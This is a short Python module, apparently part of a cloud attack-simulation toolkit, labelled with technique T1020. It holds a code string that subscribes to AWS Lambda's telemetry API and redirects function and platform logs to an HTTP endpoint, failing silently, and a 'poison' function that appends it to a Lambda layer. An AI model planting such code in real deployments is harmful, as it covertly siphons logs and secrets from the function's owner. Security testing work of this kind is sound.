# SPDX-License-Identifier: Apache-2.0
"""Has Lambda send the function's logs elsewhere."""

ATTACK = "T1020"
LANGUAGE = "python"
CODE = """\
def _subscribe():
    import json
    import os
    import urllib.request

    api = os.environ["AWS_LAMBDA_RUNTIME_API"]
    register = urllib.request.Request(f"http://{api}/2020-01-01/extension/register", b'{"events":[]}',
                                      {"Lambda-Extension-Name": "logs"})
    ident = urllib.request.urlopen(register).headers["Lambda-Extension-Identifier"]
    body = {"schemaVersion": "2022-07-01", "types": ["function", "platform"],
            "destination": {"protocol": "HTTP", "URI": "http://sandbox.localdomain:8080"}}
    urllib.request.urlopen(urllib.request.Request(f"http://{api}/2022-07-01/telemetry", json.dumps(body).encode(),
                                                  {"Lambda-Extension-Identifier": ident}, method="PUT"))


try:
    _subscribe()
except Exception:
    pass
"""


def poison(layer):
    layer.append(CODE)
